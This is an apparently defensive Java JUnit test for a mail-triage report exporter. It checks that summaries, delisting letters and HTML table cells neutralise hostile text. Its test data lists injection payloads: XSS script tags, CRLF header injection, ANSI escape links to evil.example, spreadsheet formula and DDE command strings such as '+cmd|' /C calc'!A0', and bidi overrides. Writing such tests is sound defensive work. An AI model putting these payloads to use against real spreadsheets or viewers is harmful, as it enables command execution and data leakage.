package org.mailtriage.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.reflect.RecordComponent;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.mailtriage.dns.CheckKind;
import org.mailtriage.dns.DnsAnswer;
import org.mailtriage.dns.Outcome;
import org.mailtriage.dns.SubjectKind;
import org.mailtriage.model.GuideRule;

/**
 * Outside text at its most hostile — ANSI escapes, CR/LF injection, markup, spreadsheet formulas,
 * bidi overrides, NULs, megabyte lines — put into every place the report takes text from (server
 * and HELO names, receiving domains, list names, reply texts, DNS meanings and TXT), then every
 * string of every exported row (server_remediation, delisting_requests with its letter) and every
 * line of the nightly summary is checked to be inert.
 */
class HostileTextExportTest {
    private static final RemediationPlanner PLANNER = new RemediationPlanner(RemovalUrls.loadDefault());
    private static final Instant T1 = Instant.parse("2026-11-26T01:12:12Z");
    private static final Instant ASKED = Instant.parse("2026-11-27T01:00:00Z");
    private static final List<String> HOSTILE = List.of(
            "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007",
            "ok\r\nX-Injected: yes\r\n\r\n<html>",
            "<script>alert(1)</script><img src=x onerror=alert(2)>",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\uFF1D1+1",
            "evil\u202Etxt.exe\u202C and \u2066isolate\u2069 \u200Fmark\u200E \u061C",
            "\u202E=1+1",
            "nul\u0000byte\u0000",
            "x".repeat(1_000_000));

    @Test
    void everyExportedStringIsInert() {
        List<ServerReport> reports = new ArrayList<>();
        for (String hostile : HOSTILE) {
            reports.add(PLANNER.plan(server(hostile), PreviousReport.NONE));
        }
        List<ServerRemediation> servers = reports.stream().map(ServerReport::remediation).toList();
        List<DelistingRequest> delistings = reports.stream().flatMap(report -> report.delistingRequests().stream()).toList();
        assertThat(delistings).hasSizeGreaterThanOrEqualTo(HOSTILE.size());

        List<String> exported = new ArrayList<>();
        servers.forEach(server -> strings(server, exported));
        delistings.forEach(request -> strings(request, exported));
        List<String> summary = ReportSummary.lines(LocalDate.parse("2026-11-26"), servers, delistings, 0, null, true);
        assertThat(exported).hasSizeGreaterThan(HOSTILE.size() * 10);
        List<String> everything = new ArrayList<>(exported);
        everything.addAll(summary);
        for (String text : everything) {
            String shown = text.length() > 200 ? text.substring(0, 200) + "…" : text;
            assertThat(InertText.isInert(text)).as(shown).isTrue();
            assertThat(text).as(shown).doesNotContain("<", ">", "\u001b", "\u0000", "\r", "\u202E", "\u202C", "\u2066", "\u2069",
                    "\u200F", "\u200E", "\u061C");
        }
        assertThat(exported).allSatisfy(text -> assertThat(text.length()).isLessThanOrEqualTo(DelistingLetter.MAX_LENGTH));
        // The summary is read on a terminal: one line each, and no hostile name makes it long.
        assertThat(summary).allSatisfy(line -> assertThat(line).doesNotContain("\n"));
        assertThat(summary).allSatisfy(line -> assertThat(line.length()).isLessThanOrEqualTo(ReportSummary.WIDTH));
        // Each server's mention (name, two lists with meanings, dates, guide section) stays within a few hundred characters.
        assertThat(String.join("\n", summary).length()).isLessThan(servers.size() * 3 * 1000);
    }

    /** The notebooks' HTML tables show raw events and dns_answers text: every cell inert, escaped, bounded. */
    @Test
    void notebookTableCellsAreInertAndEscaped() {
        List<List<Object>> rows = new ArrayList<>();
        for (String hostile : HOSTILE) {
            rows.add(List.of(hostile, List.of(hostile, "ok"), java.util.Map.of("txt", hostile), Instant.EPOCH));
        }
        String html = HtmlTable.render(List.of("reply_text", "helo_names", "listing", "asked_at"), rows, false);
        String[] cells = html.split("<td>");
        assertThat(cells).hasSize(1 + 4 * HOSTILE.size());
        for (int index = 1; index < cells.length; index++) {
            String cell = cells[index].substring(0, cells[index].indexOf("</td>"));
            assertThat(cell).doesNotContain("<", ">", "\u001b", "\u0000", "\r", "\n", "\u202E", "\u2066", "\u200F");
            assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
            assertThat(cell.length()).isLessThanOrEqualTo(HtmlTable.CELL_LENGTH * 6);
        }
        assertThat(html).contains("<td>1970-01-01 00:00:00</td>", "<td>&#39;=HYPERLINK(&quot;");
    }

    /** Every string reachable from a record: its components, lists of them, nested records. */
    private static void strings(Object value, List<String> out) {
        if (value instanceof String text) {
            out.add(text);
        } else if (value instanceof Collection<?> items) {
            items.forEach(item -> strings(item, out));
        } else if (value instanceof Record record) {
            for (RecordComponent component : record.getClass().getRecordComponents()) {
                try {
                    component.getAccessor().setAccessible(true);
                    strings(component.getAccessor().invoke(record), out);
                } catch (ReflectiveOperationException e) {
                    throw new IllegalStateException(e);
                }
            }
        }
    }

    private static ServerFacts server(String hostile) {
        List<DnsAnswer> answers = List.of(
                new DnsAnswer("192.0.2.10", SubjectKind.IP, CheckKind.DNSBL, "zen.spamhaus.org", null, null, Outcome.LISTED, List.of("127.0.0.2"),
                        hostile, hostile, List.of(), null, null, ASKED, null, null),
                new DnsAnswer("192.0.2.10", SubjectKind.IP, CheckKind.DNSBL, hostile, null, null, Outcome.LISTED, List.of("127.0.0.2"), hostile,
                        hostile, List.of(hostile), null, null, ASKED, null, "https://example.test/" + hostile));
        RuleGroup blocked = new RuleGroup(GuideRule.BLOCKLISTED, "zen.spamhaus.org", 3, 3, T1, T1,
                List.of(new Sample("e1", T1, hostile, 550, hostile, true), new Sample("e2", T1, "example.net", 550, "550 " + hostile, true)));
        RuleGroup hostileList = new RuleGroup(GuideRule.BLOCKLISTED, hostile, 2, 2, T1, T1, List.of(new Sample("e3", T1, hostile, 554, hostile, true)));
        RuleGroup noPtr = new RuleGroup(GuideRule.NO_PTR, null, 1, 1, T1, T1, List.of(new Sample("e4", T1, hostile, 450, hostile, false)));
        return new ServerFacts(ServerRole.OUR_SERVER, "192.0.2.10", hostile, List.of(hostile), List.of(hostile), T1, T1, 6, 6,
                List.of(new Count(hostile, 6)), List.of(new Count(hostile, 6)), List.of(new Count(hostile, 6)), 1,
                List.of(blocked, hostileList, noPtr), answers, List.of());
    }
}
